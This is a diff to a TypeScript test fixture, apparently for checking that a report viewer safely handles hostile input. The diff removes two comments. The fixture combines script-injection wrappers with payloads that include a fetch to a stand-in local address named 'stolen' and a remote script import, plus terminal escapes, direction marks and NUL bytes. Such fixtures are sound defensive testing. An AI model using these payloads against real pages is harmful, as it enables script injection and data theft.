@@ -1,7 +1,6 @@
 /** Five hundred values that a subject may send to attack the reader of a report, the same in each run. */
 const alerts = ['alert(1)', 'confirm`1`', "fetch('http://127.0.0.1:9/stolen')", "import('http://127.0.0.1:9/x.js')"];
 
-/** `!` stands for the code to run. */
 const shells = [
   '<script>!</script>',
   '</script><script>!</script>',
@@ -30,7 +29,6 @@ const shells = [
   '\\u003cscript\\u003e!\\u003c/script\\u003e',
 ];
 
-/** Texts around the code: terminal commands, direction marks, NUL, line ends, half of a surrogate pair. */
 const wrappings = ['!', '\u001b[2J\u001b]0;!\u0007', '\u202e!\u2066\u200f', 'a\u0000!\u0000', '!\r\n\u2028\ud83d'];
 
 export const hostileValues: readonly string[] = shells.flatMap((shell) =>
